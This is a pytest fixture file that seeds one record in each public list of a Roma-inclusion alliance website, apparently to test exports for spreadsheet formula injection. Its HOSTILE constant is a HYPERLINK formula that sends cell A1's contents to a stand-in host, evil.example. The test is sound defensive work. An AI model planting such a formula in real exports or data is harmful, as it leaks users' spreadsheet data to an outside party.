import datetime

import pytest

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def every_list(db):
    """One record in each public list, each named with `name`: a participant, a verified
    signature, an event, a published practice, an adopted text, a programme participation and a
    total reported for its country, a member of its country's national network, a winner of the
    2015 Dosta! prize, and a published action plan with one measure and a published progress
    report."""
    from wagtail.models import Locale

    from alliance.actionplans.models import ActionPlan, Measure, MeasureProgress, ProgressReport
    from alliance.actionplans.models import Status as PlanStatus
    from alliance.authorities.countries import ensure_countries
    from alliance.authorities.models import Authority, Country
    from alliance.declaration.models import Signature, Status
    from alliance.events.models import Event
    from alliance.library.models import AdoptedText
    from alliance.networks.models import NationalNetwork, NetworkMembership
    from alliance.participants.models import Participation
    from alliance.practices.models import GoodPractice
    from alliance.practices.models import Status as PracticeStatus
    from alliance.prizes.models import PrizeEdition, PrizeWinner
    from alliance.programmes.models import Phase, Programme, ProgrammeParticipation, ReportedTotal

    def make(name, code="AL", slug="hostile-town", adopted_on=datetime.date(2014, 3, 26)):
        ensure_countries()
        Locale.objects.get_or_create(language_code="en")
        country = Country.objects.get(code=code)
        authority = Authority.objects.create(
            name=name, slug=slug, country=country, level="local", latitude=40.6, longitude=20.8
        )
        Participation.objects.create(
            authority=authority,
            accession_number=Participation.objects.count() + 1,
            joined_on=datetime.date(2014, 1, 10),
        )
        Signature.objects.create(
            signer_name=name,
            office=name,
            show_name=True,
            authority_name=name,
            country=country,
            level="local",
            status=Status.VERIFIED,
            signed_on=datetime.date(2018, 7, 16),
            email="signer@town.example",
        )
        Event.objects.create(
            title=name, slug=slug, start_date=datetime.date(2019, 5, 1), city=name, country=country
        )
        GoodPractice.objects.create(
            title_en=name,
            summary_en=name,
            theme="education",
            authority=authority,
            status=PracticeStatus.PUBLISHED,
        )
        AdoptedText.objects.create(
            text_type="resolution", adopted_on=adopted_on, title_en=name, title_fr=name
        )
        programme, _ = Programme.objects.get_or_create(slug="romact", name_en="ROMACT", name_fr="ROMACT")
        phase, _ = Phase.objects.get_or_create(
            programme=programme, name_en="Phase 1", name_fr="Phase 1", starts_on=datetime.date(2014, 1, 1)
        )
        ProgrammeParticipation.objects.create(
            programme=programme, phase=phase, authority=authority, joined_on=datetime.date(2014, 1, 1)
        )
        ReportedTotal.objects.create(
            programme=programme,
            phase=phase,
            country=country,
            period_start=datetime.date(2014, 1, 1),
            period_end=datetime.date(2014, 12, 31),
            municipalities=Participation.objects.count() + 10,
            source_en=name,
        )
        network, _ = NationalNetwork.objects.get_or_create(
            slug=f"network-{code.lower()}",
            defaults={
                "name_en": name,
                "name_fr": name,
                "country": country,
                "founded_on": datetime.date(2016, 3, 1),
            },
        )
        NetworkMembership.objects.create(
            network=network, authority=authority, founding_member=True, joined_on=datetime.date(2016, 3, 1)
        )
        edition, _ = PrizeEdition.objects.get_or_create(year=2015, defaults={"summary_en": name})
        PrizeWinner.objects.create(edition=edition, authority=authority, citation_en=name)
        published = datetime.datetime(2024, 3, 1, tzinfo=datetime.UTC)
        plan = ActionPlan.objects.create(
            authority=authority,
            title=name,
            first_year=2024,
            last_year=2027,
            adopted_by=name,
            adopted_on=datetime.date(2024, 2, 15),
            status=PlanStatus.PUBLISHED,
            published_at=published,
        )
        measure = Measure.objects.create(
            plan=plan,
            title=name,
            area="housing",
            description=name,
            budget=1000,
            responsible_body=name,
            roma_involvement=name,
        )
        report = ProgressReport.objects.create(
            plan=plan,
            due_on=datetime.date(2026, 2, 15),
            results=name,
            roma_participation=name,
            status=PlanStatus.PUBLISHED,
            first_submitted_at=datetime.datetime(2026, 2, 10, tzinfo=datetime.UTC),
            published_at=datetime.datetime(2026, 3, 2, tzinfo=datetime.UTC),
        )
        MeasureProgress.objects.create(report=report, measure=measure, status="ongoing", spent=500)
        return authority

    return make
